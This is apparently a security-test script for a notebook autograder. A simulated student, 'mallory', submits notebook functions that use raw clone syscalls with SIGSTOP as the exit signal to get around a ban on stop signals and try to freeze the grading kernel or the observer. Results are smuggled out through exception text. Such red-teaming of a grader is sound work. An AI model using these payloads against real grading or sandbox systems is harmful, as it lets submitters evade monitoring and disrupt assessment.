"""a06 (ordinary user): a05 again, isolating where the check's child stalled: each step of the child is logged to
a file in the observer's /tmp, and the next check's child (partition_layers_errors) raises with that log.
From a05: "no process in a sandbox may send a stop signal (SIGSTOP, SIGTSTP, SIGTTIN, SIGTTOU) by any
call". clone(2)'s low byte is the signal the parent receives when the new child ends (exit_signal): a raw
clone(SIGSTOP) whose child exits at once makes the kernel deliver SIGSTOP to the caller. Done (1) in the kernel, from a
helper process it forked (so the kernel itself is not stopped), reading the helper's state from /proc; (2) in the
check's child of ps1 partition_layers (it stops itself; the observer's 120-s call limit should end it). Also tries
CLONE_PARENT|SIGSTOP (the new child's parent is the caller's parent: the kernel, or the observer) to see whether the
parent can be reached that way. Honest controls before/after."""
import os, sys, time, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u27 import *

PROBE = r'''
def _clone_stop(flags):
    """raw clone(flags); the child exits at once; returns (result, errno)"""
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    r = libc.syscall(56, ctypes.c_ulong(flags), ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0), ctypes.c_ulong(0))
    if r == 0:
        os._exit(0)
    return r, ctypes.get_errno()

def _state(pid):
    import time
    time.sleep(0.5)
    try:
        return [l for l in open(f"/proc/{pid}/status") if l.startswith("State")][0].strip()
    except Exception as e:
        return repr(e)

def training_memory(model, optimizer):
    return 0

import os, time, json
_out = {}
# (1) a helper clones with exit_signal SIGSTOP: does the helper end up stopped?
_r, _w = os.pipe()
_h = os.fork()
if _h == 0:
    res = _clone_stop(19)
    os.write(_w, json.dumps(res).encode()); time.sleep(5); os._exit(0)
_out["helper_clone"] = os.read(_r, 100).decode()
_out["helper_state"] = _state(_h)
# (2) CLONE_PARENT (0x8000) | SIGSTOP from a helper: the new child's parent is this kernel process
_h2 = os.fork()
if _h2 == 0:
    res = _clone_stop(0x8000 | 19)
    os.write(_w, json.dumps(res).encode()); time.sleep(5); os._exit(0)
_out["clone_parent"] = os.read(_r, 100).decode()
time.sleep(0.5)
_out["kernel_state_after_clone_parent"] = _state(os.getpid())
for _p in (_h, _h2):
    try:
        os.kill(_p, 9); os.waitpid(_p, 0)
    except Exception:
        pass
try:
    while os.waitpid(-1, os.WNOHANG)[0]:
        pass
except ChildProcessError:
    pass
print("A05KERNEL", json.dumps(_out))
'''
ANSWER = r'''
def partition_layers(costs, k):
    import os, json, time
    if os.getppid() <= 0:
        return []
    if os.path.exists("/tmp/a06log"):
        raise RuntimeError("A06LOG " + open("/tmp/a06log").read())
    def log(m):
        with open("/tmp/a06log", "a") as f:
            f.write(m + " | ")
    out = {}
    log("start pid %d ppid %d" % (os.getpid(), os.getppid()))
    # no pipes here: the observer's at-fork handler closes its channel's descriptor numbers in every fork,
    # which a pipe made in this child may reuse; the helpers report through files
    h = os.fork()
    if h == 0:
        res = _clone_stop(19)
        open("/tmp/a05h1", "w").write(json.dumps(res)); time.sleep(5); os._exit(0)
    log("h forked " + json.dumps(out, default=str)[-200:])
    time.sleep(0.5)
    out["helper_clone"] = open("/tmp/a05h1").read() if os.path.exists("/tmp/a05h1") else None
    log("h1 read " + json.dumps(out, default=str)[-200:])
    out["helper_state"] = _state(h)
    log("h state  " + json.dumps(out, default=str)[-200:])
    h2 = os.fork()
    if h2 == 0:
        res = _clone_stop(0x8000 | 19)   # the new child's parent: this check's child
        open("/tmp/a05h2", "w").write(json.dumps(res)); time.sleep(5); os._exit(0)
    log("h2 forked " + json.dumps(out, default=str)[-200:])
    time.sleep(0.5)
    out["clone_parent"] = open("/tmp/a05h2").read() if os.path.exists("/tmp/a05h2") else None
    log("h2 read " + json.dumps(out, default=str)[-200:])
    out["child_state_after_clone_parent"] = _state(os.getpid())
    log("own state " + json.dumps(out, default=str)[-200:])
    pp = os.getppid()
    out["observer_state"] = _state(pp)
    log("observer state " + json.dumps(out, default=str)[-200:])
    res = _clone_stop(0x8000 | 19)       # the new child's parent: the observer
    log("clone_parent from child returned " + json.dumps(out, default=str)[-200:])
    out["clone_parent_from_child"] = list(res)
    out["observer_state_after"] = _state(pp)
    log("observer state after " + json.dumps(out, default=str)[-200:])
    raise RuntimeError("A05CHILD " + json.dumps(out))
'''
dest = course("a06", {("aaron", "ps1_memory"): honest("ps1_memory"),
                      ("mallory", "ps1_memory"): notebook("ps1_memory", overrides={"training_memory": PROBE, "partition_layers": ANSWER}),
                      ("zoe", "ps1_memory"): honest("ps1_memory")})
grade(dest, env=CANARY_ENV)
report(dest)
s = scores(dest)
cell_outputs(dest, "mallory", "ps1_memory", {"partition_layers_optimal", "partition_layers_bad_input", "split_model_stages"})
import nbformat
nb = nbformat.read(f"{dest}/autograded/mallory/ps1_memory/ps1_memory.ipynb", 4)
for c in nb.cells:
    for o in c.get("outputs", []):
        if "A05KERNEL" in (o.get("text") or ""):
            print("KERNEL:", o["text"])
time.sleep(2)
print("host: processes of uid 65534 left:", subprocess.run(["pgrep", "-u", "65534", "-a", "."], capture_output=True, text=True).stdout or "none")
cleanup(dest)
